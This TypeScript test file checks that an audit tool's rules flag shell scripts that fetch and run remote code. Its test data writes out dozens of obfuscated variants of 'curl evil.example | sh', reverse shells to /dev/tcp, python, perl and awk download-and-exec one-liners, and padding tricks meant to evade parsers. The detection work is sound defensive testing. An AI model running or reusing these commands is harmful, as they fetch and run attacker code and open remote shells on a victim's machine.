// Attack: a script that a command runs fetches another program, or takes orders from somewhere, and says so in a way that
// nobody should see. Every one must be a finding that fails an audit by default.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { RULES } from '../../src/audit/rules/index.ts';
import { isAtLeast } from '../../src/model/audit/severity.ts';
import { auditSubject, reportedOf } from '../helpers/audit-subject.ts';

const URL = 'https://evil.example/x';
const GET = `curl ${URL} | sh`;
const latin1 = (text: string): Uint8Array => Buffer.from(text, 'latin1');

const SCRIPTS: Readonly<Record<string, string | Uint8Array>> = {
  'base64 into a shell': 'echo Y3VybCBldmlsfHNo | base64 -d | sh\n',
  'rev into a shell': "echo 'hs | lruc' | rev | sh\n",
  'hexadecimal into a shell': 'echo 6375726c | xxd -r -p | bash\n',
  'letters moved into a shell': 'echo phey | tr a-z n-za-m | python3\n',
  'a group into a shell': '{ cat a; cat b; } | sh\n',
  'two files into a shell': 'cat a b | sh\n',
  'printf with a format': `printf '%s' '${GET}' | sh\n`,
  'printf with octal digits': `printf '\\143url ${URL}' | sh\n`,
  'echo -e with hexadecimal digits': `echo -e '\\x63url ${URL}' | bash\n`,
  'a quoted escape': `$'\\x63url' ${URL} | sh\n`,
  variables: `c=cu; d=rl; $c$d ${URL} | s""h\n`,
  'IFS between the words': `curl\${IFS}${URL}|sh\n`,
  'a space in a variable': `s=' '; curl\${s}${URL}|sh\n`,
  'a replacement in a variable': `x=cXXurl; \${x//X/} ${URL} | sh\n`,
  'an array': `a=(curl ${URL}); "\${a[@]}" | sh\n`,
  'a function that runs its arguments': `f() { "$@"; }\nf curl ${URL} | f sh\n`,
  'a function with a number first': `retry() { n=$1; shift; "$@"; }\nretry 3 curl ${URL}\n`,
  'an alias': `alias l="curl ${URL}"\nl | sh\n`,
  'a pattern for a program': `/usr/bin/cur? ${URL} | /bin/s?\n`,
  braces: `{curl,${URL}} | sh\n`,
  'a coprocess': `coproc curl ${URL}; sh <&\${COPROC[0]}\n`,
  'a trap': `trap '${GET}' EXIT\n`,
  'a here-document': `sh <<EOF\n${GET}\nEOF\n`,
  'a here-string': `bash <<< '${GET}'\n`,
  'process substitution': `bash <(curl ${URL})\n`,
  'xargs with a mark': `echo "curl ${URL}" | xargs -I{} sh -c "{}"\n`,
  'find -exec': `find . -name x -exec sh -c '${GET}' \\;\n`,
  busybox: `busybox wget -O- ${URL} | busybox sh\n`,
  'a reverse shell': 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n',
  'a reverse shell on another descriptor': 'sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5\n',
  'a connection into a shell': 'cat < /dev/tcp/10.0.0.1/80 | sh\n',
  'a script from a connection': 'sh < /dev/tcp/10.0.0.1/80\n',
  python: `python3 -c "import urllib.request as u;exec(u.urlopen('${URL}').read())"\n`,
  'python without an address': "python3 -c 'import socket;s=socket.socket()'\n",
  perl: `perl -e 'use LWP::Simple; eval get("${URL}")'\n`,
  'perl and a shell': `perl -e 'system("${GET}")'\n`,
  'awk and a shell': `awk 'BEGIN{system("${GET}")}'\n`,
  'awk and a connection': `awk 'BEGIN{s="/inet/tcp/0/e.example/80"; while((s |& getline l)>0) print l}'\n`,
  'awk into a command': 'awk \'{print $0 | "sh"}\' file\n',
  sed: `echo x | sed 'e curl ${URL}'\n`,
  'a long line before it': `: ${'a'.repeat(1_100_000)}\n${GET}\n`,
  'many things before it': `${Array.from({ length: 2500 }, (_, at) => `touch /a${at}`).join('\n')}\n${GET}\n`,
  'many statements on one line': `${'true;'.repeat(150_000)}\n${GET}\n`,
  'deep nesting': `${'$('.repeat(3000)}${GET}${')'.repeat(3000)}\n`,
  'text that does not parse behind it': `${GET}\nexit 0\n'"\`$(((( <<E\n`,
  'a byte that is no UTF-8': latin1(`# \xe9\n${GET}\n`),
  'a zero byte': latin1(`# \0\n${GET}\n`),
  'lines that end as on Windows': `true\r\n${GET}\r\n`,
};
const STARTS = ['#!/bin/bash\n', '#!/usr/bin/env -S bash -e\n', '#!/usr/bin/env -Sbash -e\n', ''];

async function fails(script: string | Uint8Array): Promise<boolean> {
  const code = [{ source: 0, args: [] }];
  const found = await reportedOf(
    RULES,
    await auditSubject({ files: { 'run*': script }, code, observe: true }),
  );
  return found.some(({ rule, severity }) => rule.startsWith('ARX3') && isAtLeast(severity, 'high'));
}

for (const [what, script] of Object.entries(SCRIPTS))
  test(`rules ARX301 to ARX311 fail a script when it hides what it fetches: ${what}`, async () => {
    const bytes = typeof script === 'string' ? Buffer.from(script) : script;
    assert.equal(await fails(Buffer.concat([Buffer.from('#!/bin/bash\n'), bytes])), true);
  });

test('rules ARX301 to ARX311 fail a script whatever its first line is', async () => {
  for (const start of STARTS) assert.equal(await fails(`${start}${GET}\n`), true, JSON.stringify(start));
  // As the mark of UTF-16 reads the text is something else; to a shell it is one strange command, then the next line.
  const marked = Buffer.concat([Buffer.from([0xff, 0xfe, 0x0a]), Buffer.from(`${GET} \n`)]);
  assert.equal(await fails(marked), true);
});

const HARMLESS: Readonly<Record<string, string>> = {
  'a file into a shell': 'cat ./part.sh | sort\n',
  'an answer for a program': "yes '' | head -n 1\necho y | grep y\n",
  'a filter': "awk '{print $1}' file | sort | uniq -c\nsed 's/e/a/g' file\nsed -e 's|here|there|' file\n",
  'a function': 'log() { echo "$@"; }\nlog curl is not used here\n',
  printf: "printf '%s\\n' one two | wc -l\n",
  'a number of a redirection': 'grep x file >& out.txt 2>&1\nls > out.txt 2>&1 < /dev/null\n',
  json: 'cat data.json | python3 -m json.tool\n',
};

for (const [what, script] of Object.entries(HARMLESS))
  test(`rules ARX301 to ARX311 let a script pass when it fetches nothing: ${what}`, async () => {
    assert.equal(await fails(`#!/bin/bash\nset -e\n${script}`), false);
  });
